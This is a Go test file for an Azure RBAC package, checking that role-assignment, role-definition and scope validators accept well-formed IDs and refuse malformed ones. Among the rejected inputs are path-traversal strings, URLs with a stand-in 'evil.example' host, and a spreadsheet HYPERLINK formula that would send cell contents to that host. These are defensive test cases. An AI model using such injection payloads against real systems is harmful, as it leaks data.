package arm

import (
	"strings"
	"testing"
)

func TestCheckID(t *testing.T) {
	const (
		sub  = "/subscriptions/5daeeca8-17a9-41b4-996e-705b8faffbf8"
		name = "0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
		ra   = "/providers/Microsoft.Authorization/roleAssignments/" + name
		es   = "/providers/Microsoft.Authorization/roleEligibilitySchedules/" + name
		mg   = "/providers/Microsoft.Management/managementGroups/mg-prod_1"
		rg   = sub + "/resourceGroups/rg-web.eu(1)"
		res  = rg + "/providers/Microsoft.Storage/storageAccounts/st1/blobServices/default"
		uni  = sub + "/resourceGroups/rg-münchen-東京(Ω)"
	)
	tests := []struct {
		id, scope string
		ok        bool
	}{
		{sub + ra, sub, true},
		{sub + ra, sub + "/", true},
		{rg + ra, rg, true},
		{res + ra, res, true},
		{mg + ra, mg, true},
		{ra, "/", true},
		{sub + es, sub, true},
		{rg + es, rg, true},
		{"/SUBSCRIPTIONS/5DAEECA8-17A9-41B4-996E-705B8FAFFBF8" + ra, sub, true},
		// Resource group names in any script (issue 24): the shape is
		// checked, not the alphabet.
		{uni + ra, uni, true},
		{uni + "/providers/Microsoft.Web/sites/app-ü" + ra, uni + "/providers/Microsoft.Web/sites/app-ü", true},
		{sub + "/resourceGroups/कार्य" + es, sub + "/resourceGroups/कार्य", true},
		{uni + "/.." + ra, uni + "/..", false},
		{sub + "/resourceGroups/rg\u00a0x" + ra, sub + "/resourceGroups/rg\u00a0x", false},
		// Not a role assignment at all.
		{rg + "/providers/Microsoft.Authorization/locks/prod-delete-lock", rg, false},
		{sub + "/providers/Microsoft.Authorization/roleDefinitions/" + name, sub, false},
		{sub, sub, false},
		{"", "", false},
		// A role assignment's shape around something else.
		{sub + ra + "/../../locks/x", sub, false},
		{sub + "/providers/Microsoft.Authorization/roleAssignments/../locks/x", sub, false},
		{sub + ra + "?api-version=2015-01-01", sub, false},
		{sub + "/resourceGroups/.." + ra, sub + "/resourceGroups/..", false},
		{sub + "/resourceGroups/rg%2f.." + ra, sub + "/resourceGroups/rg%2f..", false},
		{sub + "//resourceGroups/rg" + ra, sub + "//resourceGroups/rg", false},
		{"/subscriptions/not-a-guid" + ra, "/subscriptions/not-a-guid", false},
		{"https://evil.example" + sub + ra, "https://evil.example" + sub, false},
		{sub + "/providers/Microsoft.Authorization/roleAssignments/x", sub, false},
		// At another scope than the one it was listed with.
		{rg + ra, sub, false},
		{sub + es, rg, false},
		{es, "/", false},
	}
	for _, tt := range tests {
		// The row's kind is what its listing was of: the test's ids say.
		infix := assignmentsInfix
		if strings.Contains(tt.id, "roleEligibilitySchedules") {
			infix = eligibilitiesInfix
		}
		if err := checkID(tt.id, tt.scope, infix); (err == nil) != tt.ok {
			t.Errorf("checkID(%q, %q) = %v, want ok %v", tt.id, tt.scope, err, tt.ok)
		}
	}
}

// TestCheckRoleDefinitionID: a role definition id is a GUID under
// Microsoft.Authorization/roleDefinitions, tenant-wide or under a scope;
// anything else (a formula, a link, another provider's id) is refused
// (issue 24, item 10).
func TestCheckRoleDefinitionID(t *testing.T) {
	const (
		sub  = "/subscriptions/5daeeca8-17a9-41b4-996e-705b8faffbf8"
		role = "/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
	)
	tests := []struct {
		id string
		ok bool
	}{
		{sub + role, true},
		{role, true},
		{"/providers/Microsoft.Management/managementGroups/mg-1" + role, true},
		{sub + "/resourceGroups/rg-münchen" + role, true},
		{strings.ToLower(sub + role), true},
		{"", false},
		{"8e3af657-a8ff-443c-a75c-2fe8c4bcb635", false},
		{`=HYPERLINK("http://evil.example/?"&A2,"Owner")`, false},
		{"=1+2", false},
		{sub + "/providers/Microsoft.Authorization/roleDefinitions/owner", false},
		{sub + "/providers/Microsoft.Authorization/locks/8e3af657-a8ff-443c-a75c-2fe8c4bcb635", false},
		{sub + "/resourceGroups/.." + role, false},
		{sub + role + "?api-version=1", false},
		{"https://evil.example" + sub + role, false},
		{sub + role + "/../x", false},
	}
	for _, tt := range tests {
		if err := checkRoleDefinitionID(tt.id); (err == nil) != tt.ok {
			t.Errorf("checkRoleDefinitionID(%q) = %v, want ok %v", tt.id, err, tt.ok)
		}
	}
}

// TestWithin: an assignment's scope must be a scope the run lists, below
// one or above one (issue 24, item 4).
func TestWithin(t *testing.T) {
	const (
		s1 = "/subscriptions/11111111-1111-4111-8111-111111111111"
		s2 = "/subscriptions/22222222-2222-4222-8222-222222222222"
		s3 = "/subscriptions/33333333-3333-4333-8333-333333333333"
		mg = "/providers/Microsoft.Management/managementGroups/mg-prod"
	)
	sub := []scope{{id: s1}}
	rg := []scope{{id: s1 + "/resourceGroups/rg-web"}}
	// A management group as resolveScopes gives it: itself and its
	// descendants (here s2).
	group := []scope{{id: mg, group: true}, {id: s2}}
	tests := []struct {
		at     string
		listed []scope
		ok     bool
	}{
		{s1, sub, true},
		{s1 + "/", sub, true},
		{strings.ToUpper(s1), sub, true},
		{s1 + "/resourceGroups/rg-münchen", sub, true},
		{s1 + "/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/st", sub, true},
		{"/", sub, true},
		{"", sub, true},
		{mg, sub, true},
		{"/providers/Microsoft.Management/managementGroups/other", sub, true},
		{s1, rg, true},
		{s1 + "/resourceGroups/rg-web/providers/Microsoft.Web/sites/a", rg, true},
		{mg, group, true},
		{s2, group, true},
		{s2 + "/resourceGroups/rg", group, true},
		// Another subscription, or what is in it.
		{s2, sub, false},
		{s2 + "/resourceGroups/rg-web", sub, false},
		{s2 + "/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv", sub, false},
		{s1 + "/resourceGroups/rg-other", rg, false},
		// A subscription the management group's descendants did not name.
		{s3, group, false},
		{s3 + "/resourceGroups/rg", group, false},
		{s1, nil, false},
		{"/tenants/x", sub, false},
	}
	for _, tt := range tests {
		if err := within(tt.at, tt.listed); (err == nil) != tt.ok {
			t.Errorf("within(%q, %v) = %v, want ok %v", tt.at, tt.listed, err, tt.ok)
		}
	}
}
